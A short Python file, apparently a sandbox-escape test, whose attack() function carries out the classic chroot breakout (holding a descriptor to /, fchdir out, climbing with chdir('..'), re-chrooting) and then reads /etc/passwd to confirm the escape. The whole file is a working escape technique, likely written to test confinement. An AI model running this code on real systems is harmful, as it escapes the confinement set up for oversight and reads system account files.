# ruff: noqa
# tries: escapes a changed root by changing it again

import os


def attack():
    os.mkdir("/tmp/jail")
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(fd)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return "root" in open("/etc/passwd").read()
